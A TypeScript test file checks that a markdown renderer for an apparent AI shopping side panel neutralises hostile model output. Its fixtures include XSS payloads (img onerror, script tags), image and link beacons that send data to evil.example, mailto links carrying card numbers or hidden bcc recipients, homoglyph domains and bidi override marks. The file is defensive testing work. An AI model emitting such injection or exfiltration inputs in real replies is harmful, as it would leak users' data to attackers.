// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '@/lib/sidepanel/render-markdown';

function renderInto(markdown: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderMarkdown(markdown);
  return container;
}

describe('renderMarkdown', () => {
  it('renders formatting, lists, code and tables', () => {
    const container = renderInto('**Two mugs** added:\n\n- blue\n- red\n\n`cart` is *ready*\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(container.querySelector('strong')?.textContent).toBe('Two mugs');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('code')?.textContent).toBe('cart');
    expect(container.querySelector('td')?.textContent).toBe('1');
  });

  it("nests the model's headings under the request's own (an h2 in the side panel and in the trace viewer)", () => {
    const container = renderInto('# Your order\n\nTwo mugs.\n\n## Shipping\n\nTomorrow.\n\n#### Note\n\nSetext\n------');
    const headings = [...container.querySelectorAll('h1, h2, h3, h4, h5, h6')].map((heading) => `${heading.tagName}:${heading.textContent}`);
    expect(headings).toEqual(['H3:Your order', 'H4:Shipping', 'H6:Note', 'H4:Setext']);
  });

  it('shows raw HTML as text and renders no image or script', () => {
    const container = renderInto(
      'Look <img src=x onerror="alert(1)"> here\n\n<script>alert(2)</script>\n\n![secret](https://evil.example/?q=data)\n\n<iframe src="https://evil.example"></iframe>',
    );
    expect(container.querySelector('img, script, iframe, [onerror]')).toBeNull();
    expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(container.textContent).toContain('<script>alert(2)</script>');
    expect(container.textContent).toContain('[image: secret]');
    expect(container.innerHTML).not.toContain('evil.example/?q=data');
  });

  it('opens links in a new tab without an opener, and drops script links', () => {
    const container = renderInto('[shop](https://shop.example/cart) and [bad](javascript:alert(1))');
    const links = container.querySelectorAll('a');
    expect(links[0]?.getAttribute('href')).toBe('https://shop.example/cart');
    expect(links[0]?.getAttribute('target')).toBe('_blank');
    expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(container.innerHTML).not.toContain('javascript:');
  });

  it('says where a link goes when its words name another address, and on hover for every link', () => {
    const container = renderInto('[https://shop.example/orders/4411](https://evil.example/collect?addr=5%20Main) and <https://shop.example/cart>');
    const [deceptive, plain] = [...container.querySelectorAll('a')];
    expect(deceptive?.getAttribute('title')).toBe('https://evil.example/collect?addr=5%20Main');
    expect(container.textContent).toContain('https://shop.example/orders/4411 (evil.example)');
    expect(plain?.getAttribute('title')).toBe('https://shop.example/cart');
    expect(container.textContent).not.toContain('(shop.example)');
    expect(renderInto('[`https://shop.example/`](https://shop.example/)').textContent?.trim()).toBe('https://shop.example/');
    expect(renderInto('<https://bank.example@evil.example/>').textContent).toContain('(evil.example)');
    // Cyrillic letters that pass for "paypal": the host's ASCII name says it is another.
    expect(renderInto('<https://раураl.com/x>').textContent?.trim()).toBe('https://раураl.com/x (xn--l-7sba6dbr.com)');
  });

  it('says whom a mail link writes to when its words name a web address or another mailbox', () => {
    expect(renderInto('[https://bank.example/login](mailto:x@evil.example?body=secret)').textContent?.trim()).toBe('https://bank.example/login (mail to x@evil.example)');
    expect(renderInto('[Contact support](mailto:help@evil.example?subject=cart&body=card%204111)').textContent?.trim()).toBe('Contact support (mail to help@evil.example)');
    expect(renderInto('[help@shop.example](mailto:help@shop.example?cc=spy@evil.example)').textContent?.trim()).toBe('help@shop.example (mail to help@shop.example, spy@evil.example)');
    expect(renderInto('[Write](mailto:?bcc=spy@evil.example)').textContent?.trim()).toBe('Write (mail to spy@evil.example)');
    expect(renderInto('[help@shop.example](mailto:help@shop.example?BCC=spy@evil.example)').textContent?.trim()).toBe('help@shop.example (mail to help@shop.example, spy@evil.example)');
    // A domain in other scripts gives its ASCII name; a plus is a plus.
    expect(renderInto('[support@раураl.com](mailto:support@раураl.com)').textContent?.trim()).toBe('support@раураl.com (mail to support@xn--l-7sba6dbr.com)');
    expect(renderInto('[Write](mailto:?cc=a+spy@evil.example)').textContent?.trim()).toBe('Write (mail to a+spy@evil.example)');
    // An escape that reads as nothing does not hide whom it writes to.
    expect(renderInto('[https://bank.example/login](mailto:x@evil.example,%E0)').textContent?.trim()).toBe('https://bank.example/login (mail to x@evil.example, %E0)');
    // The address itself, written out or as an autolink, needs no note.
    expect(renderInto('[help@shop.example](mailto:help@shop.example)').textContent?.trim()).toBe('help@shop.example');
    expect(renderInto('<mailto:help@shop.example>').textContent?.trim()).toBe('mailto:help@shop.example');
    expect(renderInto('help@shop.example').textContent?.trim()).toBe('help@shop.example');
  });

  it('shows marks that override or isolate a direction by their code, so no reply reads its words in another order', () => {
    expect(renderInto('Total: \u202e01$ ten\u202c dollars, `\u2067x\u2069`').textContent?.trim()).toBe('Total: ⟨U+202E⟩01$ ten⟨U+202C⟩ dollars, ⟨U+2067⟩x⟨U+2069⟩');
    // In a link's address they stay what the browser sends, percent-encoded: the link goes where it went.
    const link = renderInto('<https://x.example/a\u202eb>').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://x.example/a%E2%80%AEb');
    expect(link?.textContent).toBe('https://x.example/a⟨U+202E⟩b');
    // Right-to-left text without such marks is left as it is.
    expect(renderInto('تمت إضافة كوبين \u200f').textContent?.trim()).toBe('تمت إضافة كوبين \u200f');
  });

  it('turns task list boxes into text, not inputs', () => {
    const container = renderInto('- [x] done\n- [ ] open');
    expect(container.querySelector('input')).toBeNull();
    expect(container.textContent).toContain('☑ done');
  });
});
